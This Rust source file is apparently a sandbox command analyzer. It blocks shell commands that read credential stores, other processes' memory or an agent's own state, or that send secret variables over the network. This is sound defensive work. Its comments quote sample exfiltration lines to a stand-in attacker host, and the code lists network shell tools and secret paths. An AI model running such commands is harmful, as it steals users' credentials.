//! Reading a path: whether its content may be shown (a secret, another
//! process's view, the app's own state) and the secret names a command's
//! words carry.

use super::effects::{dollar_names, in_word_or_subs, indirect_names, secret_var};
use super::handoffs::{SECRET_FROM_STDIN, handed_on};
use super::*;

impl Analyzer<'_> {
    /// A file whose content is read; true when that is provably harmless.
    pub(super) fn read_path(&mut self, w: &Word, cwd: Option<&str>) -> bool {
        if w.procsub {
            return true;
        }
        // A URI is not a path: `file://` names one, any other scheme is a
        // place on the network (`gio info sftp://host/`).
        if let Some((scheme, rest)) = w.text.split_once("://")
            && !scheme.is_empty()
            && scheme
                .chars()
                .all(|ch| ch.is_ascii_alphanumeric() || "+-.".contains(ch))
        {
            if !scheme.eq_ignore_ascii_case("file") {
                return false;
            }
            let path = rest.find('/').map_or("", |i| &rest[i..]);
            let at = Word {
                text: path.to_string(),
                ..w.clone()
            };
            return self.read_path(&at, cwd);
        }
        if w.dynamic {
            if self.listed_in_project(w, cwd) {
                return true;
            }
            self.dynamic_secret(w, cwd);
            return false;
        }
        let Some(p) = self.sensitive(w, cwd, "reads") else {
            return false;
        };
        if w.text == "-" || self.inside(&p) {
            return true;
        }
        // Non-secret system files; the sandbox hides what is not world-readable.
        paths::system_normalized(&p) && !paths::device(&p) && !p.starts_with("/run/user")
    }

    /// Each file read is judged (a secret among them blocks, wherever it
    /// stands); true when all of them are harmless.
    pub(super) fn reads_all<'w>(
        &mut self,
        files: impl IntoIterator<Item = &'w Word>,
        cwd: Option<&str>,
    ) -> bool {
        let mut ok = true;
        for f in files {
            ok &= self.read_path(f, cwd);
        }
        ok
    }

    /// Credentials block and Jarvis's state asks, whatever reads them; the
    /// normalised path when it is neither.
    pub(super) fn sensitive(&mut self, w: &Word, cwd: Option<&str>, verb: &str) -> Option<String> {
        // A relative path in a folder the line left unknown (`cd "$1"`) may
        // be anywhere: judged from home and from the root, where its name
        // matters most, and never as the project's.
        let relative = !w.text.starts_with(['/', '~', HOME, '$']);
        if relative && cwd.is_some_and(|c| c.starts_with("$(")) {
            for anchor in [HOME.to_string(), "/".to_string()] {
                self.sensitive(w, Some(&anchor), verb);
                if self.verdict == Verdict::Block {
                    return None;
                }
            }
            return Some(format!("{}/{}", parse::UNKNOWN_DIR, w.text));
        }
        let p = self.norm(w, cwd);
        // Which input devices exist is no keystroke.
        // A project file's name and metadata are the project's, whatever
        // it holds (`stat .env`); the user's own stores are not even listed.
        let device_names = verb == "lists" && (paths::keystroke_device(&p) || self.inside(&p));
        // A wildcard listed in a folder that is no store (`du -sh ~/*`):
        // the names and sizes it may match, a key's among them, are no key.
        // (Only a wildcard in the last name: one in a folder's name may
        // match a store, `~/.password-stor*/*`.)
        let listed_names = verb == "lists" && w.glob && {
            let at = p.find(['*', '?', '[']).unwrap_or(p.len());
            let dir = p[..at].rsplit_once('/').map_or("", |(d, _)| d);
            !p[at..].contains('/')
                && !dir.is_empty()
                && paths::credential_normalized(dir, dir).is_none()
                && !paths::glob_names_store(&p)
        };
        if let Some(why) =
            paths::credential_normalized(&p, &w.text).filter(|_| !device_names && !listed_names)
        {
            self.block(format!("touches a credential: {why}"));
            return None;
        }
        // Its programs are system files to read or list (`file
        // /usr/bin/jarvis-sandbox`); what changes them is judged as a write.
        let binary = paths::app_binary(&p, &self.env.app);
        if self.app_state(&p) && !(binary && matches!(verb, "reads" | "lists")) {
            self.state_reads += 1;
            // Its content (the conversations, MCP servers' environments,
            // grants) is Jarvis's, not the tools': reading it blocks;
            // listing its names asks.
            let whole = paths::app_state_root(&p, &self.env.app, &self.env.protected);
            if verb != "lists"
                && (whole || super::secrets::app_access(&p, self.db_engine.as_deref()))
            {
                self.block(format!(
                    "{verb} Jarvis's configuration or grants ({}): MCP servers' tokens and the approvals live there",
                    shown(&w.text)
                ));
            } else {
                self.ask(format!("{verb} Jarvis's own state ({})", shown(&w.text)));
            }
            return None;
        }
        Some(p)
    }

    /// A path with run-time parts whose fixed parts already name a secret.
    pub(super) fn dynamic_secret(&mut self, w: &Word, cwd: Option<&str>) {
        let p = self.norm(w, cwd);
        let l = lower(&p);
        let base = p.rsplit('/').next().unwrap_or("");
        if l.starts_with("/proc/")
            && (l.ends_with("/environ")
                || l.ends_with("/mem")
                || l.ends_with("/maps")
                || l.contains("/fd/"))
        {
            self.block(format!(
                "reads another process's memory or environment ({})",
                shown(&w.text)
            ));
        } else if !base.contains('$')
            && paths::credential_normalized(base, base).is_some()
            && p.contains('/')
        {
            self.block(format!("touches a credential file ({})", shown(&w.text)));
        } else if ["/.ssh/", "/.aws/", "/.gnupg/", "/.kube/", "/.docker/config"]
            .iter()
            .any(|k| l.contains(k) || l.ends_with(k.trim_end_matches('/')))
        {
            self.block(format!("touches a credential store ({})", shown(&w.text)));
        }
    }

    /// A walk that reads every file below `w` (`grep -r`, `cp -r`, `tar c`).
    pub(super) fn read_tree(&mut self, w: &Word, cwd: Option<&str>, what: &str) -> bool {
        if w.dynamic && !w.procsub {
            // `tar c ${HOME%/*}/*/.ssh`: a secret store whatever the prefix.
            self.dynamic_secret(w, cwd);
            return false;
        }
        let p = self.norm(w, cwd);
        if paths::contains_credentials(&p) {
            self.block(format!(
                "{what} reads everything below {}, where keys and tokens live",
                shown(&w.text)
            ));
            return false;
        }
        self.read_path(w, cwd)
    }

    /// A word that names Jarvis, its process or its parent, here or in the
    /// commands its value comes from (`"$(pgrep jarvis)"`).
    pub(super) fn aims_at_self(&self, w: &Word, script: &Script) -> bool {
        // The command's shell is Jarvis's child: `$$` and `ppid` lead to Jarvis.
        // (`--ppid N` is any process's children; `$PPID`, `ppid=` of `$$`
        // is this shell's parent.)
        let process = |x: &Word| {
            let t = lower(&x.text);
            self.mentions_self(x)
                || t.contains("$$")
                || t.contains("ppid") && !t.starts_with("--ppid")
        };
        in_word_or_subs(w, script, process)
    }

    /// A word whose run-time value names Jarvis or its process.
    pub(super) fn mentions_self(&self, w: &Word) -> bool {
        let app = lower(&self.env.app);
        let t = lower(&w.text);
        t.contains(&app) || t.contains("$ppid")
    }

    /// Secret variables and sensitive paths anywhere in the words (but in
    /// text positions: an `echo`'s words, a grep pattern).
    /// A secret variable fed to a program that prints what it reads
    /// (`cat <<< "$TOKEN"`, `base64 <<<$KEY`, `xxd <<EOF … $PASS`): shown
    /// as `echo` would show it. (A program that takes a secret on its
    /// input to sign in, `docker login --password-stdin`, is no reader.)
    fn secret_fed_to_reader(&mut self, c: &Cmd<'_>) {
        if tables::read_only(&c.lb).is_none() && !matches!(c.lb.as_str(), "tee" | "sed" | "awk") {
            return;
        }
        for r in c.src.redirects.iter().filter(|r| r.op.starts_with("<<")) {
            // (A quoted body, `<<'EOF'`, is text: nothing expands.)
            let Some(body) = r.body.as_ref().filter(|b| b.dynamic) else {
                continue;
            };
            if let Some(var) = dollar_names(&body.text).into_iter().find(|v| secret_var(v)) {
                self.block(format!(
                    "reveals the secret variable ${var} ({} prints its input)",
                    c.base
                ));
            }
        }
    }

    pub(super) fn words_secrets(&mut self, c: &Cmd<'_>, text: &[usize]) {
        self.secret_fed_to_reader(c);
        let prints = matches!(
            c.lb.as_str(),
            "echo"
                | "printf"
                | "printenv"
                | "env"
                | "export"
                | "declare"
                | "set"
                | "tee"
                | "cat"
                | "print"
                | "write-output"
                | "write-host"
                | "typeset"
        ) || c.src.redirects.iter().any(Redirect::writes_file)
            || c.src.pipes_out;
        let network = super::tables::FETCHERS.contains(&c.lb.as_str());
        // A fetcher's output is the response, not its own words, unless
        // it is asked to show the request (`curl -v`, `http --offline`).
        let prints = if network {
            echoes_request(&c.lb, &c.args)
        } else {
            prints
        };
        // Printed only into its service's sign-in or a count: used, not shown.
        let shown_var =
            |var: &str| prints && (network || !handed_on(c, super::tokens::service_hosts(var)));
        // wget prints each URL it fetches unless told to be quiet.
        let url_echo = c.lb.starts_with("wget")
            && !c.args.iter().any(|a| {
                // `-qO-`: the letters before one that takes a value.
                a == "--quiet"
                    || short_flags(a).is_some_and(|b| {
                        b.split(|ch: char| "OoaPeUYTwtlAIDB".contains(ch))
                            .next()
                            .is_some_and(|head| head.contains('q'))
                    })
            });
        let reader = super::readonly::pure_reader(&c.lb);
        // `$BASH_COMMAND` is the line running now: in a DEBUG trap, every
        // later line, with whatever secrets it spells out.
        let current_line = |t: &str| t.contains("BASH_COMMAND");
        if network
            && (c.words[1..]
                .iter()
                .any(|w| w.dynamic && current_line(&w.text))
                || c.src.redirects.iter().any(|r| {
                    current_line(&r.target.text)
                        || r.body.as_ref().is_some_and(|b| current_line(&b.text))
                }))
        {
            self.block(
                "exfiltration (the command line running, $BASH_COMMAND, is sent over the network)",
            );
        }
        // `nc host <<< "$TOKEN"`, a here-document holding it: the input a
        // network program sends.
        if network
            || matches!(
                c.lb.as_str(),
                "nc" | "ncat" | "netcat" | "socat" | "telnet" | "openssl"
            )
        {
            for r in &c.src.redirects {
                let Some(body) = r.body.as_ref().or((r.op == "<<<").then_some(&r.target)) else {
                    continue;
                };
                let Some(var) = dollar_names(&body.text)
                    .into_iter()
                    .find(|n| body.dynamic && secret_var(n))
                else {
                    continue;
                };
                // A sign-in reading its secret there (`gh auth login
                // --with-token`, `docker login --password-stdin`), or a
                // header read from it (`curl -H @-`) going to its service.
                let signs_in = c
                    .args
                    .iter()
                    .any(|a| SECRET_FROM_STDIN.contains(&a.as_str()))
                    && c.args.iter().any(|a| a == "login");
                let header = c
                    .args
                    .windows(2)
                    .any(|w| matches!(w[0].as_str(), "-H" | "--header") && w[1] == "@-");
                let elsewhere = super::tokens::foreign_host(&var, &c.args).is_some();
                if signs_in || header && !elsewhere {
                    self.ask(format!(
                        "{} reads the secret variable ${var} from its input",
                        c.base
                    ));
                } else {
                    self.block(format!(
                        "exfiltration (the secret variable ${var} sent as {}'s input)",
                        c.base
                    ));
                }
            }
        }
        for (i, w) in c.words.iter().enumerate().skip(1) {
            let mut names: Vec<String> = dollar_names(&w.text)
                .into_iter()
                .filter(|n| w.dynamic && secret_var(n))
                .collect();
            // `${!v}` whose `v` is only known at run time (a loop over
            // `${!AWS_*}`): any variable's value, the secret ones too.
            names.extend(
                indirect_names(&w.text)
                    .into_iter()
                    .filter(|_| w.dynamic)
                    .map(|n| format!("{{!{n}}} (a variable named at run time)")),
            );
            for var in names {
                // A proxy or certificate set for this command sends it elsewhere.
                // Anywhere on the line (`export https_proxy=…; curl …`, `env
                // CURL_CA_BUNDLE=… curl`), or a home whose `.curlrc` says so.
                let reroutes = |n: &str| {
                    let n = n.to_ascii_lowercase();
                    n.ends_with("_proxy")
                        || matches!(
                            n.as_str(),
                            "curl_ca_bundle"
                                | "ssl_cert_file"
                                | "home"
                                | "xdg_config_home"
                                | "curl_home"
                        )
                };
                let rerouted = c.script.commands.iter().any(|k| {
                    k.assigns.iter().any(|(n, _)| reroutes(n))
                        || k.argv
                            .iter()
                            .any(|w| w.text.split_once('=').is_some_and(|(n, _)| reroutes(n)))
                });
                let own = |url: Option<&str>| {
                    !rerouted && super::tokens::own_service(&var, &c.args, url, &w.text)
                };
                let in_data = network
                    && (w.text.contains("://") && !own(Some(&w.text))
                        || c.args.get(i.wrapping_sub(2)).is_some_and(|prev| {
                            matches!(
                                prev.as_str(),
                                "-d" | "--data"
                                    | "--data-raw"
                                    | "--data-binary"
                                    | "--data-urlencode"
                                    | "-F"
                                    | "--form"
                                    | "--json"
                                    | "-T"
                                    | "--post-data"
                                    | "--body-data"
                            ) && !own(None)
                        }));
                // In a header, a login or a URL's user part, a token goes to
                // the host: to its own service that is its use; to any other
                // it is sent away (`-H "Authorization: Bearer $GITHUB_TOKEN"
                // https://attacker.example`).
                let clones =
                    matches!(c.lb.as_str(), "git" | "hg" | "svn") && w.text.contains("://");
                let credential_slot = clones
                    || network
                        && (w.text.contains("://")
                            || c.args.get(i.wrapping_sub(2)).is_some_and(|prev| {
                                short_flags(prev).is_some_and(|b| b.ends_with(['u', 'H']))
                                    || matches!(
                                        prev.as_str(),
                                        "-H" | "--header"
                                            | "-u"
                                            | "--user"
                                            | "--proxy-user"
                                            | "--oauth2-bearer"
                                            | "--http-user"
                                            | "--http-password"
                                            | "--password"
                                    )
                            })
                            || [
                                "--header=",
                                "--http-password=",
                                "--password=",
                                "--user=",
                                "--oauth2-bearer=",
                                "--proxy-header",
                                "-H",
                                "-u",
                            ]
                            .iter()
                            .any(|f| w.text.starts_with(f)));
                let elsewhere =
                    credential_slot && super::tokens::foreign_host(&var, &c.args).is_some();
                // `test -n "$TOKEN"`: whether it is set, never its value.
                // Only the plain value: `${T:0:1}` or `${T##ghp_A*}` tests a
                // part of it, which guesses it one piece at a time.
                let tested = matches!(c.lb.as_str(), "test" | "[" | "[[")
                    && super::tokens::plain_reference(&w.text, &var)
                    && c.args
                        .get(i.wrapping_sub(2))
                        .is_some_and(|prev| prev == "-n" || prev == "-z");
                let url_shown = url_echo && w.text.contains("://");
                // A name looked up is sent to whichever server answers for
                // it (`dig "$TOKEN.attacker.example"`).
                let looked_up = matches!(
                    c.lb.as_str(),
                    "dig"
                        | "host"
                        | "nslookup"
                        | "drill"
                        | "ping"
                        | "ping6"
                        | "traceroute"
                        | "whois"
                        | "getent"
                        | "resolvectl"
                );
                let in_data = in_data || looked_up;
                if shown_var(&var) || url_shown || in_data || elsewhere {
                    self.block(format!("reveals the secret variable ${var}"));
                } else if !tested {
                    self.ask(format!("uses the secret variable ${var}"));
                }
            }
            if text.contains(&(i - 1)) {
                continue;
            }
            if w.dynamic {
                self.dynamic_secret(w, c.cwd());
                continue;
            }
            for cand in path_candidates(&w.text) {
                let p = self.norm_text(&paths::word_path(&cand, false), c.cwd());
                if let Some(why) = paths::credential_normalized(&p, &cand) {
                    // The metadata of the system's own secret files (`stat
                    // /etc/shadow`) is public; their content stays out of
                    // reach. The user's own stores are not even listed.
                    // So is the metadata of the project's own (`stat .env`).
                    if metadata_only(&c.lb)
                        && (p.starts_with("/etc/") || p.starts_with("/dev/") || self.inside(&p))
                    {
                        continue;
                    }
                    // A tool handed its own settings, which it reads to sign
                    // in and never prints (`mvn -s ~/.m2/settings.xml`).
                    let prev = c.words.get(i.saturating_sub(1)).map(|w| w.text.as_str());
                    if own_settings(&c.lb, prev, &w.text, &p) {
                        continue;
                    }
                    self.block(format!("touches a credential: {why}"));
                }
                if self.app_state(&p) {
                    if reader {
                        self.state_reads += 1;
                        if super::secrets::app_access(&p, self.db_engine.as_deref()) {
                            self.block(format!(
                                "reads Jarvis's configuration or grants ({}): MCP servers' tokens and the approvals live there",
                                shown(&cand)
                            ));
                        }
                        self.ask(format!("reads Jarvis's own state ({})", shown(&cand)));
                    } else {
                        self.block(format!("aims at Jarvis's own state ({})", shown(&cand)));
                    }
                }
            }
        }
        // A network client told what to do by a script on its input (ftp's
        // `put FILE`, sftp's batch, smbclient's commands): the files it
        // names go where it connects.
        if network {
            for body in c.src.redirects.iter().filter_map(|r| {
                (r.op.starts_with("<<") || r.op == "<<<")
                    .then_some(r.body.as_ref())
                    .flatten()
            }) {
                for tok in body.text.split_whitespace() {
                    for cand in path_candidates(tok.trim_matches(['"', '\'', ';'])) {
                        if !(cand.contains('/') || cand.starts_with(['~', '.'])) {
                            continue;
                        }
                        // The client expands `~` itself, as the shell would.
                        let cand = match cand.strip_prefix('~') {
                            Some(rest) if rest.is_empty() || rest.starts_with('/') => {
                                format!("{HOME}{rest}")
                            }
                            _ => cand,
                        };
                        let p = self.norm_text(&paths::word_path(&cand, false), c.cwd());
                        if let Some(why) = paths::credential_normalized(&p, &cand) {
                            self.block(format!(
                                "sends a credential over the network ({}'s script names it): {why}",
                                c.base
                            ));
                        } else if self.app_state(&p) {
                            self.block(format!(
                                "sends Jarvis's own state over the network ({})",
                                shown(&cand)
                            ));
                        }
                    }
                }
            }
        }
        let texts = super::positions::text_positions(c);
        for (k, w) in c.words.iter().enumerate().skip(1) {
            let t = lower(&w.text);
            if t.contains("/proc/$ppid")
                || (t.starts_with("/proc/")
                    && (t.ends_with("/mem")
                        || t.ends_with("/maps")
                        || t.contains("/fd/")
                        || t.ends_with("/environ")))
                    && !t.starts_with("/proc/self/fd")
            {
                self.block(format!(
                    "aims at another process's memory or files ({})",
                    shown(&w.text)
                ));
            }
            // A name in a text position (`grep '/proc/1/root' src/`) or a
            // link printed, not followed (`readlink /proc/$pid/cwd`).
            let shown_only =
                texts.contains(&(k - 1)) || matches!(c.lb.as_str(), "readlink" | "realpath");
            if !shown_only && other_process_view(&paths::fold(&t)) {
                self.block(format!(
                    "sees the files through another process's root or working folder ({}): outside this sandbox's view",
                    shown(&w.text)
                ));
            }
        }
    }
}

/// `/proc/1/root/…`, `/proc/$pid/cwd`, `/proc/*/root`: a process other than
/// this one, whose mounts may be the host's.
fn other_process_view(t: &str) -> bool {
    let Some(rest) = t.strip_prefix("/proc/") else {
        return false;
    };
    let (who, rest) = rest.split_once('/').unwrap_or((rest, ""));
    let link = rest.split('/').next().unwrap_or("");
    matches!(link, "root" | "cwd")
        && !matches!(
            who,
            "self" | "thread-self" | "$$" | "$bashpid" | "${bashpid}"
        )
}

/// `mvn -s ~/.m2/settings.xml`, `--settings=…`: maven given the settings
/// file it reads anyway.
fn own_settings(lb: &str, prev: Option<&str>, word: &str, p: &str) -> bool {
    let flag = |f: &str| matches!(f, "-s" | "--settings" | "-gs" | "--global-settings");
    matches!(lb, "mvn" | "mvnw" | "mvnd")
        && p == "~/.m2/settings.xml"
        && (prev.is_some_and(flag) || word.split_once('=').is_some_and(|(f, _)| flag(f)))
}

/// Programs that look at names, sizes and modes, never at content.
fn metadata_only(b: &str) -> bool {
    matches!(
        b,
        "stat" | "du" | "test" | "[" | "[[" | "realpath" | "readlink" | "namei" | "ls" | "tree"
    )
}

/// Options that make a fetcher print the request it sends (its headers,
/// its URL) along with the response.
fn echoes_request(lb: &str, args: &[String]) -> bool {
    let letters = match lb {
        "curl" => "v",
        "wget" | "wget2" => "d",
        "http" | "https" | "xh" | "xhs" => "vp",
        _ => "v",
    };
    // curl's `-w` prints what its format names: the URL or the headers
    // only when it says so (`%{http_code}` is a number).
    let shows = |format: &str| {
        let f = format.to_ascii_lowercase();
        ["url", "header", "json", "@"].iter().any(|k| f.contains(k))
    };
    args.iter().enumerate().any(|(i, a)| {
        let flag = a.split('=').next().unwrap_or(a);
        let next = args.get(i + 1).map(String::as_str).unwrap_or("");
        matches!(
            flag,
            "--verbose"
                | "--trace"
                | "--trace-ascii"
                | "--debug"
                | "--print"
                | "--offline"
                | "--libcurl"
        ) || letter_flags(a).is_some_and(|b| b.contains(|ch| letters.contains(ch)))
            || lb == "curl" && (a == "-w" || a == "--write-out") && shows(next)
            // `-sw FMT`: w ends a bundle and takes the next word.
            || lb == "curl" && short_flags(a).is_some_and(|b| b.len() > 1 && b.ends_with('w')) && shows(next)
            // A config file may say `verbose`; xh `--curl` prints the request.
            || lb == "curl" && (matches!(flag, "-K" | "--config") || short_flags(a).is_some_and(|b| b.contains('K')))
            || flag == "--curl"
            || lb == "curl"
                && (a.strip_prefix("--write-out=").is_some_and(shows)
                    || a.strip_prefix("-w")
                        .is_some_and(|v| !v.is_empty() && shows(v)))
    })
}
